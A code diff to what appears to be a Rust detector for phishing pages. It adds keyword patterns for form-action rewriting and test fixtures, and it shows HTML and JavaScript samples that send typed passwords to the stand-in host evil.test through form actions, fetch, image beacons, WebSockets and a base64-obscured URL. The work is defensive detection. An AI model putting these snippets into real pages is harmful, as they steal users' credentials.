@@ -34,6 +34,8 @@ const SENDING: &[&str] = &[
     "api.telegram.org",
     "emailjs",
     "new websocket",
+    ".action=",
+    ".action =",
 ];
 
 /// A picture whose address carries what was typed. Counters of visits load pictures too, and carry nothing typed.
@@ -71,6 +73,8 @@ mod tests {
             "<form action='https://evil.test/p'><input name=passwd type=text></form>",
             "<form><input type=password><button formaction='https://evil.test/p'>Sign in</button></form>",
             "<form action='https://evil.test/p'><input name=u style='-webkit-text-security: disc'></form>",
+            "<html><form id=f><input type=password></form><script>f.action = atob('aHR0cHM6Ly9hLnRlc3Q=');</script>",
+            "<html><div contenteditable style='-webkit-text-security:disc'></div><script>fetch('https://evil.test/' + p)</script>",
             "<html><input type=password id=p><script>new Image().src = 'https://evil.test/l?' + p.value</script>",
             "<html><input type=password id=p><script>w = new WebSocket('wss://evil.test/'); w.send(p.value)</script>",
         ] {
